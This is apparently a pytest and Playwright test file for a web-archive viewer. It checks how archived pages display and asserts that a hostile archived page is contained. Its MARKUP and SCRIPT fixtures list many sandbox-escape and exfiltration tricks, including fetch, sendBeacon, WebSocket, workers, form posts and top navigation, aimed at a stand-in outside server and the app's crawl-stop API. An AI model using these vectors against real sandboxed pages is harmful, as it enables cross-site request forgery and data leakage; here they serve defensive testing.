"""Archived pages in a real browser: they are displayed, the bar follows them, and hostile ones are contained.

A hostile page tries everything, with and without scripts, to reach an external server (which records all requests)
and the crawl (whose requests are recorded, too).
"""

from __future__ import annotations

import random
import re
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import quote

import pytest
from fastapi import FastAPI
from starlette.types import Receive, Scope, Send

from orienteer.web.app import create_app
from orienteer.web.archived import origin
from tests.browser.conftest import DESKTOP
from tests.browser.external_server import ExternalServer
from tests.browser.test_all_pages import expect_accessible_and_fitting
from tests.inspect.captured import CapturedCrawl, T
from tests.web.archived_crawl import APP, HOME, NEXT, make_archived_crawl
from tests.web.live_server import served
from tests.window import expect

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page, Request

pytestmark = pytest.mark.long

HOSTILE = "http://hostile.test/"
DONE = HOSTILE + "done.png"

# What a page can try without scripts. OUT is outside, API the crawl's own pages.
MARKUP = """<!doctype html><html manifest="OUT/manifest"><head>
<base href="OUT/base/"><meta http-equiv=refresh content="0;url=OUT/refresh">
<meta http-equiv=refresh content="0;url=API/">
<meta http-equiv=Content-Security-Policy content="default-src *"><meta http-equiv=x-dns-prefetch-control content=on>
<link rel=preconnect href="OUT"><link rel=dns-prefetch href="OUT"><link rel=prefetch href="OUT/prefetch">
<link rel=preload as=image href="OUT/preload"><link rel=prerender href="OUT/prerender">
<link rel=modulepreload href="OUT/m">
<link rel=stylesheet href="OUT/style"><link rel=icon href="OUT/icon"><link rel=manifest href="OUT/manifest">
<style>@import "OUT/import"; @import url(OUT/import2); body{background:url(OUT/background)}
@font-face{font-family:f;src:url(OUT/font)} p{font-family:f}</style>
<svg><style><link rel=preconnect href="OUT"><img src="OUT/differential"></style></svg>
<noscript><img src="OUT/noscript"><link rel=preconnect href="OUT"></noscript></head>
<body background="OUT/background" onload="HOOK">
<p>A hostile page</p>
<img src="OUT/img"><img srcset="OUT/srcset 1x"><picture><source srcset="OUT/source"><img></picture>
<video src="OUT/video" poster="OUT/poster" autoplay></video><audio src="OUT/audio" autoplay></audio>
<iframe src="OUT/iframe"></iframe><iframe src="API/crawl"></iframe><iframe srcdoc="<img src='OUT/srcdoc'>"></iframe>
<iframe src="javascript:HOOK"></iframe><iframe src="data:text/html,<img src='OUT/data'>"></iframe>
<object data="OUT/object"></object><embed src="OUT/embed"><input type=image src="OUT/input">
<svg><image href="OUT/svg"/><use href="OUT/use#x"/><a href="OUT/svg-a"><text y=20>svg link</text></a>
<animate attributeName=href to="OUT/animate"/></svg><math href="OUT/math"><mi>x</mi></math>
<img src=x onerror="HOOK"><p style="background:url(OUT/inline)">styled</p>
<div><template shadowrootmode=open><img src="OUT/shadow"><style>@import "OUT/shadow-css"</style></template></div>
<a id=out href="OUT/link" target=_top ping="OUT/ping">out</a> <a id=blank href="OUT/blank" target=_blank>blank</a>
<a id=api href="API/api/search?q=x" target=_parent>api</a> <a id=script href="javascript:HOOK">script</a>
<form action="OUT/form" method=post><button id=send formaction="API/crawl/stop">send</button></form>
<form id=g action="API/api/crawl/stop" method=get target=_top><button id=get>get</button></form>
<a id=good href="http://hostile.test/good">good</a>"""

SCRIPT = """<script>
const tried = [];
const attempt = (name, f) => { try { const r = f(); tried.push(name); if (r?.catch) r.catch(() => {}); } catch (e) {} };
for (const to of ["OUT/script", "API/api/search?q=harbour", "API/api/crawl/stop", "API/api/crawl/resume"]) {
  attempt("fetch", () => fetch(to));
  attempt("post", () => fetch(to, {method: "POST", mode: "no-cors", credentials: "include"}));
  attempt("xhr", () => { const x = new XMLHttpRequest(); x.open("POST", to); x.send("x"); });
  attempt("beacon", () => navigator.sendBeacon(to, "x")); attempt("events", () => new EventSource(to));
  attempt("image", () => { new Image().src = to; });
  attempt("worker", () => new Worker(to)); attempt("shared", () => new SharedWorker(to));
  attempt("open", () => window.open(to)); attempt("top", () => { top.location = to; });
  attempt("parent", () => { parent.location.href = to; }); attempt("import", () => import(to));
  attempt("frame", () => { const f = document.createElement("iframe"); f.src = to; document.body.append(f); });
  attempt("form", () => { const f = document.createElement("form"); f.action = to; f.method = "post"; f.target = "_top";
    document.body.append(f); f.submit(); });
  attempt("script", () => { const s = document.createElement("script"); s.src = to; document.head.append(s); });
}
attempt("socket", () => new WebSocket("OUT/socket".replace("http", "ws")));
attempt("socket", () => new WebSocket("API/socket".replace("http", "ws")));
attempt("service", () => navigator.serviceWorker.register("/sw.js"));
attempt("opener", () => { opener.location = "OUT/opener"; });
attempt("dom", () => top.document.body.innerHTML = "caught"); attempt("cookie", () => document.cookie);
attempt("storage", () => localStorage.getItem("x")); attempt("message", () => parent.postMessage({stop: true}, "*"));
attempt("blob", () => new Worker(URL.createObjectURL(new Blob(["fetch('OUT/blob')"]))));
attempt("data", () => { const f = document.createElement("iframe"); f.srcdoc = "<script>fetch('OUT/inner')<\\/script>";
  document.body.append(f); });
const end = location.pathname.replace(/^(\\/[^/]+)\\/\\w+\\/(\\d+)\\/.*/, "$1/asset/$2/") + "DONE";
setTimeout(() => {
  const done = new Image();
  done.onload = done.onerror = () => { location = "OUT/self"; };
  done.src = end + "?" + tried.length;
}, 300);
</script>"""


class Watched:
    """An application that records requests from other pages than its own."""

    def __init__(self, app: FastAPI) -> None:
        self.app, self.state = app, app.state
        self.strange: list[str] = []

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        headers = dict(scope["headers"])
        if scope["method"] != "GET" or headers.get(b"sec-fetch-site", b"none") not in (b"none", b"same-origin"):
            self.strange.append(f"{scope['method']} {scope['path']}")
        await self.app(scope, receive, send)


def filled(text: str, address: str, outside: ExternalServer) -> str:
    hook = "fetch('OUT/hook')"
    return text.replace("HOOK", hook).replace("DONE", DONE).replace("OUT", outside.address).replace("API", address)


def hostile_page(folder: Path, url: str, text: str) -> None:
    more = "Link: <http://127.0.0.1:9/>; rel=preconnect\r\nRefresh: 0;url=http://o.test/\r\n"
    with CapturedCrawl(folder) as crawl:
        crawl.put(url, T, text, more=more)


@pytest.fixture(scope="module")
def outside() -> Iterator[ExternalServer]:
    with ExternalServer() as outside:
        yield outside


@pytest.fixture(scope="module")
def watched(tmp_path_factory: pytest.TempPathFactory, outside: ExternalServer) -> Iterator[tuple[Watched, str]]:
    folder = make_archived_crawl(tmp_path_factory.mktemp("archived") / "harbour")
    watched = Watched(create_app(folder))
    with served(folder, app=watched) as address:  # type: ignore[arg-type]
        hostile_page(folder, HOSTILE, filled(MARKUP + SCRIPT, address, outside))
        with CapturedCrawl(folder) as crawl:
            crawl.put(HOSTILE + "good", T, "<p>A good page")
            crawl.put(DONE, T, "", "image/png")
        yield watched, address


@contextmanager
def opened(browser: Browser, watched: tuple[Watched, str]) -> Iterator[tuple[Page, list[str]]]:
    """A tab, and its requests to others, even those that the browser blocks."""
    app, address = watched
    own = (address + "/", f"http://127.0.0.1:{app.state.archived.port}/")
    with browser.new_context(base_url=address) as context:
        context.set_default_timeout(300_000)
        wrong: list[str] = []

        def asked(request: Request) -> None:
            if not request.url.startswith((*own, "data:")):
                wrong.append(request.url)

        context.on("request", asked)
        context.on("page", lambda page: wrong.append("a window") if page.opener() else None)
        yield context.new_page(), wrong


@pytest.fixture(scope="module")
def only_tab(browser: Browser, watched: tuple[Watched, str]) -> Iterator[tuple[Page, list[str]]]:
    with opened(browser, watched) as tab:
        yield tab


@pytest.fixture
def tab(only_tab: tuple[Page, list[str]]) -> Iterator[Page]:
    """A tab that may contact only the two origins. All tests share it, since a new one takes longer than most tests."""
    page, wrong = only_tab
    page.set_viewport_size(DESKTOP)  # type: ignore[arg-type]
    page.emulate_media(color_scheme="light")
    wrong.clear()
    yield page
    page.goto("about:blank")
    assert wrong == []


def test_a_page_is_displayed_with_its_assets(tab: Page, fresh_rng: random.Random) -> None:
    tab.goto(f"/archived?url={HOME}&time=2023")
    frame = tab.frame_locator("#archived")
    expect(frame.get_by_role("heading")).to_have_css("color", "rgb(0, 0, 128)")
    boat = frame.get_by_alt_text("a boat")
    assert boat.evaluate("image => image.naturalWidth") == 120
    expect(tab.get_by_text("1 of 5 assets is not in the archive")).to_be_visible()
    expect_accessible_and_fitting(tab, fresh_rng)


def test_the_bar_follows_the_frame(tab: Page) -> None:
    tab.goto(f"/archived?url={HOME}")
    frame = tab.frame_locator("#archived")
    frame.get_by_text("next").click()
    expect(tab.locator("#bar .address")).to_contain_text(NEXT)
    expect(tab).to_have_url(re.compile(re.escape(quote(NEXT, safe=""))))
    frame.get_by_text("back").click()
    expect(frame.get_by_role("heading", name="Harbour news")).to_be_visible()
    frame.get_by_text("outside").click()
    expect(frame.get_by_role("heading", name="This page is not in the archive")).to_be_visible()
    expect(tab.locator("#bar")).to_contain_text("Not in the archive")


def test_another_date_is_chosen(tab: Page) -> None:
    tab.goto(f"/archived?url={HOME}")
    frame = tab.frame_locator("#archived")
    expect(frame.get_by_text("The ferry leaves at ten.")).to_be_visible()
    tab.get_by_label("Date").select_option(index=2)
    expect(frame.get_by_text("The ferry leaves at nine.")).to_be_visible()


def test_as_a_browser_showed_it_and_as_it_was_sent(tab: Page) -> None:
    tab.goto(f"/archived?url={APP}")
    frame = tab.frame_locator("#archived")
    expect(frame.get_by_text("Made by scripts")).to_be_visible()
    tab.get_by_role("link", name="As sent by the server").click()
    expect(frame.get_by_text("No scripts")).to_be_visible()


@pytest.mark.parametrize(
    "target", [f"/archived/dates?url={HOME}", f"/archived/changes?url={HOME}", "/archived?url=http://n.org/"]
)
def test_dates_and_changes_are_accessible_and_fit(tab: Page, target: str, fresh_rng: random.Random) -> None:
    tab.goto(target)
    expect_accessible_and_fitting(tab, fresh_rng)


def test_two_dates_are_compared(tab: Page) -> None:
    tab.goto(f"/archived/dates?url={HOME}")
    tab.get_by_label("From").last.check()
    tab.get_by_role("button", name="Compare the texts").click()
    expect(tab.locator(".added mark")).to_have_text("ten.")


def test_a_hostile_page_gets_nowhere(browser: Browser, watched: tuple[Watched, str], outside: ExternalServer) -> None:
    outside.asked.clear()
    with opened(browser, watched) as (tab, wrong):
        tab.goto(f"/archived?url={HOSTILE}")
        here = tab.url
        frame = tab.frame_locator("#archived")
        expect(frame.get_by_text("A hostile page")).to_be_visible()
        for id in ("out", "blank", "api"):
            frame.locator(f"#{id}").click()
            expect(frame.get_by_text("This page is not in the archive")).to_be_visible()
            tab.goto(f"/archived?url={HOSTILE}")
        for id in ("script", "send", "get"):
            frame.locator(f"#{id}").click()
        frame.locator("#good").click()
        expect(frame.get_by_text("A good page")).to_be_visible()
        assert tab.url.partition("?")[0] == here.partition("?")[0]
        assert tab.evaluate("document.cookie") == ""
    assert wrong == []
    assert outside.asked == []
    assert watched[0].strange == []


def test_even_where_scripts_ran_they_would_get_nowhere(
    browser: Browser, watched: tuple[Watched, str], outside: ExternalServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The second line of defence: the unchanged page with scripts allowed, and all other measures.

    No other host gets a request. Browsers that do not know `Connection-Allowlist` (Chromium 150) may open a connection
    when a script sets out for a page that it may not go to; nothing is sent there.
    """
    app, address = watched
    outside.asked.clear()
    monkeypatch.setattr(origin, "static_page", lambda text, *_: text)
    policy = origin.policy
    monkeypatch.setattr(
        origin, "policy", lambda *about: policy(*about).replace("sandbox;", "sandbox allow-scripts;").replace(
            "script-src 'none'", "script-src 'unsafe-inline' 'unsafe-eval'"),
    )  # fmt: skip
    text = "<!doctype html><p>A hostile page</p>" + filled(SCRIPT, address, outside)
    hostile_page(app.state.crawl.path, HOSTILE + "scripts", text)
    with opened(browser, watched) as (tab, _):
        tab.goto(f"/archived?url={HOSTILE}scripts")
        ended = tab.expect_event("framenavigated", lambda frame: frame.url.startswith("chrome-error:"))
        with (
            tab.expect_response(lambda response: "done.png?" in response.url) as done,
            ended,
        ):  # and goes where it may not
            tab.evaluate(
                "const frame = document.getElementById('archived');"
                "frame.setAttribute('sandbox', 'allow-scripts'); frame.src = frame.src;"
            )
        assert int(done.value.url.partition("?")[2]) > 30, "the scripts have run"
        expect(tab.get_by_label("Date")).to_be_visible()
        assert tab.url.startswith(address + "/archived?")
    assert [line for line in outside.asked if line != "connection"] == []
    assert app.strange == []
